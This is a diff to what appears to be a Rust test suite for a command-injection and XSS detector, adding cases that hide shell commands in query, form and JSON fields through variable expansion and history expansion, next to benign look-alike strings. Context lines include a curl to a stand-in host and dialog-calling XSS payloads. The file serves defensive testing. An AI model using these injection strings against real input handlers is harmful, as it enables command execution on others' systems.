@@ -456,6 +456,17 @@ fn cmdi_round5_more_extensions() {
     attack("cmdi-125", "query", "x", ";`echo id`");
     attack("cmdi-125", "json", "x", "a && `curl evil.example`");
     benign("json", "note", "Results; `echo` is a shell builtin");
+    attack("cmdi-125", "query", "ip", ";$a cat test.txt");
+    attack("cmdi-125", "form", "ip", "x|$u ls -la");
+    benign("query", "q", "Totals;$5 cat food, $3 dog food");
+    // cmdi-130: history expansion.
+    attack("cmdi-130", "query", "rce", "!-1!-2");
+    attack("cmdi-130", "json", "rce", "x; !-3");
+    benign(
+        "json",
+        "note",
+        "Great job!-1 point for style, though. Score: 4!-1",
+    );
     // xss-116: a parenthesised dialog called.
     attack("xss-116", "query", "q", "(alert)(1)");
     attack("xss-116", "json", "q", "x=(prompt)`1`");
